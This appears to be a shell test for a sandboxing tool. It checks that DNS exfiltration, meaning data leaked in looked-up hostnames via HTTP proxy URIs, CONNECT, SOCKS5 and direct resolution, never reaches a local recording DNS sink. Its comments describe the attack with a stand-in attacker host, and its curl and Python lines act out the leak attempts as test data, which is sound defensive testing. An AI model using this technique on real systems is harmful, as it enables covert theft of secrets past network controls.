#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Attack (field notes: DNS exfiltration): leak data in the names the proxy or the sandbox looks
# up (secret-data.attacker.example is answered NXDOMAIN, but the attacker's name server has
# already seen the query): through the HTTP proxy (absolute URI and CONNECT), through SOCKS5
# with a name, and by resolving directly inside the sandbox.
# Setup: a network and mount namespace of the test's own, where /etc/resolv.conf names a DNS
# sink on 127.0.0.1:53 that records every query name and answers NXDOMAIN; srt runs there.
# Checks: no query for a denied name ever reaches the sink, nor any query made from inside the
# sandbox; a query for an allowed name does (the sink works, so the check is not vacuous).
. "$(dirname "$0")/libescape.sh"
command -v python3 >/dev/null && command -v curl >/dev/null || skip_all "python3 and curl needed"

cat >"$T/dns-sink.py" <<'PY'
import socket, struct, sys, fcntl
# bring up lo in this fresh network namespace (SIOCGIFFLAGS / SIOCSIFFLAGS, IFF_UP)
s = socket.socket()
ifr = fcntl.ioctl(s, 0x8913, struct.pack("16sH14x", b"lo", 0))
flags = struct.unpack("16sH14x", ifr)[1]
fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", flags | 1))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("127.0.0.1", 53))
open(sys.argv[1], "w").write("up")
u.settimeout(120)
with open(sys.argv[2], "a", buffering=1) as log:
    while True:
        try:
            q, a = u.recvfrom(4096)
        except OSError:
            break
        if len(q) < 12:
            continue
        i, labels = 12, []
        while i < len(q) and q[i] != 0 and len(labels) < 64:
            n = q[i]; labels.append(q[i + 1:i + 1 + n].decode("ascii", "replace")); i += 1 + n
        log.write(".".join(labels).lower() + "\n")
        # NXDOMAIN: same id, QR=1, RD copied, RA=1, RCODE=3; the question echoed
        flags = 0x8000 | (struct.unpack(">H", q[2:4])[0] & 0x0100) | 0x0080 | 3
        u.sendto(q[:2] + struct.pack(">HHHHH", flags, 1, 0, 0, 0) + q[12:i + 5], a)
PY
printf 'nameserver 127.0.0.1\noptions attempts:1 timeout:2\n' >"$T/resolv.conf"
SN=$T/dns.json
printf '{"network":{"allowedDomains":["*.allowed.test"],"deniedDomains":[]},"filesystem":{"denyRead":[],"allowWrite":[],"denyWrite":[]}}\n' >"$SN"

# The part that runs in the test's namespaces: sink up, resolv.conf bound, then the attempts.
as_self=
if [ "$(id -u)" -ne 0 ]; then
	# root in a user namespace for the mount and lo, then back to our own uid for srt (its
	# state directory must belong to the uid it runs as)
	as_self="unshare --map-user=$(id -u) --map-group=$(id -g)"
fi
cat >"$T/inner.sh" <<EOF
python3 "$T/dns-sink.py" "$T/up" "$T/queries" &
for i in \$(seq 100); do [ -s "$T/up" ] && break; sleep 0.05; done
mount --bind "$T/resolv.conf" /etc/resolv.conf || exit 3
run() { $as_self "$SRT" -s "$SN" "\$@" >>"$T/out" 2>&1; echo "rc \$?" >>"$T/out"; }
run curl -sS -m 20 http://http-secret-1.denied.test/
run curl -sS -m 20 -p https://connect-secret-2.denied.test/
run curl -sS -m 20 --socks5-hostname 127.0.0.1:1080 http://socks-secret-3.denied.test/
run python3 -c 'import socket; socket.getaddrinfo("direct-secret-4.allowed.test", 80)'
run curl -sS -m 20 http://control-5.allowed.test/
sleep 0.2
kill %1
EOF
if [ "$(id -u)" -eq 0 ]; then
	unshare -m -n bash "$T/inner.sh"
else
	unshare -r -m -n bash "$T/inner.sh"
fi
ok $? "the attempts ran in a namespace of the test's own"
q=$(cat "$T/queries" 2>/dev/null)
like "$q" "control-5.allowed.test" "the sink saw the allowed name (the check below is not vacuous)"
unlike "$q" "secret-1" "a denied name in an absolute URI is never looked up"
unlike "$q" "secret-2" "a denied CONNECT target is never looked up"
unlike "$q" "secret-3" "a denied SOCKS5 name is never looked up"
unlike "$q" "secret-4" "a lookup from inside the sandbox never reaches a name server"
like "$(cat "$T/out")" "403" "the proxy answered 403 for the denied names"
is "$(grep -c "" "$T/queries" 2>/dev/null)" "$(grep -c control-5 "$T/queries" 2>/dev/null)" \
	"the sink saw nothing but the allowed name"
done_testing
